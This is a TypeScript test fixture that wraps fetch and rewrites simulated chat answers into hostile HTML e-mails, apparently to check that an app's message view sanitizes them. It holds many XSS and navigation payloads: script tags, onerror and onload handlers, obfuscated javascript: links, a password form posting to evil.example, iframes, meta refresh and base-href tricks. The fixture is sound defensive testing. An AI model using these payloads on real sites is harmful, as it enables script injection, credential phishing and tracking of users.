import type { FetchFn } from '../../src-main/core/wolkvox/client';

/**
 * A fetch for the service that passes every simulator answer through, but rewrites the first record of each
 * chat_4 answer into a hostile e-mail: a script, event handlers, remote images, CSS loads, a frame, a form,
 * javascript: and http links, right-to-left text, control characters, emoji and a 100 KB answer. Each
 * attack would set window.__pwned or request evil.example if it ever ran or loaded.
 */
export const HOSTILE_MARKER = 'Zxhostile';
export const EVIL_HOST = 'evil.example';

export const HOSTILE_BODY = [
  '<html><head><style>@import url(http://evil.example/import.css); body { background: url(http://evil.example/bg.png) }</style>',
  '<link rel="stylesheet" href="http://evil.example/style.css"><meta http-equiv="refresh" content="0;url=http://evil.example/refresh"></head><body>',
  `<p>${HOSTILE_MARKER}: mi devolución sigue pendiente, por favor revisen.</p>`,
  "<script>window.__pwned = 'script'; fetch('http://evil.example/script')</script>",
  '<img src="http://evil.example/pixel.gif" width="1" height="1" alt="">',
  '<img src="x" onerror="window.__pwned = \'onerror\'">',
  '<img srcset="http://evil.example/srcset.png 2x">',
  '<svg onload="window.__pwned = \'svg\'"><image href="http://evil.example/svg.png"/></svg>',
  '<a href="javascript:window.__pwned = \'link\'">Haga clic aquí</a>',
  '<p><a href="https://www.tiendaaurora.example/pedido/123">Ver mi pedido</a></p>',
  '<div style="position:fixed;inset:0;background:url(http://evil.example/overlay.png)">overlay</div>',
  '<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/obj"></object>',
  '<form action="http://evil.example/login"><input name="password" type="password"><button>Enviar</button></form>',
  '<table background="http://evil.example/table.png"><tr><td>Pedido</td><td>$120.000</td></tr></table>',
  '<p>مرحبا، لم يصلني الطلب بعد \u202e reversed \u0007 bell \u0000 nul 😊👨‍👩‍👧</p>',
  '</body></html>',
].join('');

export const LONG_ANSWER = `Respuesta ${'larga '.repeat(20_000)}fin`;

/** A 1x1 PNG, embedded: the only kind of image a message may show. */
export const DATA_PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';
export const LINKS_MARKER = 'Zxlinks';
/** The address of the hostile link e-mail's plain <a>: it may open, but only after the confirmation. */
export const PLAIN_LINK = 'https://shop.example/order/77';
/** A second one that asks for the top frame and an opener: it too opens only through the confirmation. */
export const TOP_LINK = 'https://shop.example/top';

/**
 * Every way a message could try to navigate, each with words a test can find (or, where the element is
 * removed whole, a name). Nothing here may navigate the page, open a tab or request evil.example; only
 * the plain <a> may open, through the confirmation.
 */
export const HOSTILE_LINK_FORMS: readonly { name: string; html: string }[] = [
  { name: 'plain a', html: `<p><a href="${PLAIN_LINK}" target="_blank" ping="https://evil.example/ping" download>Plain link</a></p>` },
  { name: 'a target _top', html: `<p><a href="${TOP_LINK}" target="_top" rel="opener">Top link</a></p>` },
  { name: 'relative a under base', html: '<base href="https://evil.example/base/"><p><a href="relative/page">Relative link</a></p>' },
  { name: 'javascript a', html: '<p><a href="  jav&#x09;ascript:window.__pwned=\'a\'">Script link</a></p>' },
  { name: 'mailto a', html: '<p><a href="mailto:ana@shop.example?subject=hi">Mail link</a></p>' },
  {
    name: 'image map',
    html: `<p><img src="${DATA_PNG}" usemap="#m" width="60" height="20" alt="Map image"><map name="m"><area shape="rect" coords="0,0,60,20" href="https://evil.example/area" alt="Area link"></map></p>`,
  },
  {
    name: 'form',
    html: '<form action="https://evil.example/form" method="get" id="f1"><input name="q" value="Form field"><button type="submit">Form submit</button></form>',
  },
  { name: 'button formaction', html: '<p><button formaction="https://evil.example/formaction" form="f1">Formaction button</button></p>' },
  { name: 'input formaction', html: '<p><input type="submit" formaction="https://evil.example/inputaction" value="Input submit" form="f1"></p>' },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">' },
  {
    name: 'svg links',
    html: '<svg width="200" height="40"><a xlink:href="https://evil.example/svg-xlink"><text x="0" y="15">SVG xlink</text></a><a href="https://evil.example/svg-href"><text x="0" y="35">SVG href</text></a></svg>',
  },
  { name: 'math href', html: '<math href="https://evil.example/math"><mi>Math link</mi></math>' },
  { name: 'iframe', html: '<iframe src="https://evil.example/iframe" srcdoc="<a href=https://evil.example/srcdoc>x</a>"></iframe>' },
  { name: 'object and embed', html: '<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">' },
  { name: 'link prefetch', html: '<link rel="prefetch" href="https://evil.example/prefetch"><link rel="stylesheet" href="https://evil.example/s.css">' },
  { name: 'srcset', html: '<p><img srcset="https://evil.example/srcset.png 1x" alt="Srcset image"></p>' },
  { name: 'portal', html: '<portal src="https://evil.example/portal"></portal>' },
  { name: 'href on a div', html: '<div href="https://evil.example/div" cite="https://evil.example/cite">Div with href</div>' },
];

export const HOSTILE_LINKS_BODY = [
  '<html><head><meta http-equiv="refresh" content="1;url=https://evil.example/head-refresh"></head><body>',
  `<p>${LINKS_MARKER}: links of every kind.</p>`,
  ...HOSTILE_LINK_FORMS.map((f) => f.html),
  '</body></html>',
].join('');

export interface HostileOptions {
  /** The body of the rewritten record (default: the hostile e-mail above). */
  body?: string;
  /** The words in its subject, to find it by search (default: HOSTILE_MARKER). */
  marker?: string;
}

export function hostileFetch(options: HostileOptions = {}): FetchFn {
  const body = options.body ?? HOSTILE_BODY;
  const marker = options.marker ?? HOSTILE_MARKER;
  return async (input, init) => {
    const res = await fetch(input, init);
    const url = String(input instanceof Request ? input.url : input);
    if (!url.includes('api=chat_4') || res.status !== 200) return res;
    const text = await res.text();
    let json: { data?: unknown };
    try {
      json = JSON.parse(text) as { data?: unknown };
    } catch {
      return new Response(text, { status: res.status, headers: res.headers });
    }
    const first = Array.isArray(json.data) ? json.data[0] : json.data;
    if (first && typeof first === 'object') {
      Object.assign(first as Record<string, unknown>, { channel: 'Email', body, answer: LONG_ANSWER, subject: `${marker} factura` });
    }
    return new Response(JSON.stringify(json), { status: 200, headers: { 'content-type': 'application/json' } });
  };
}
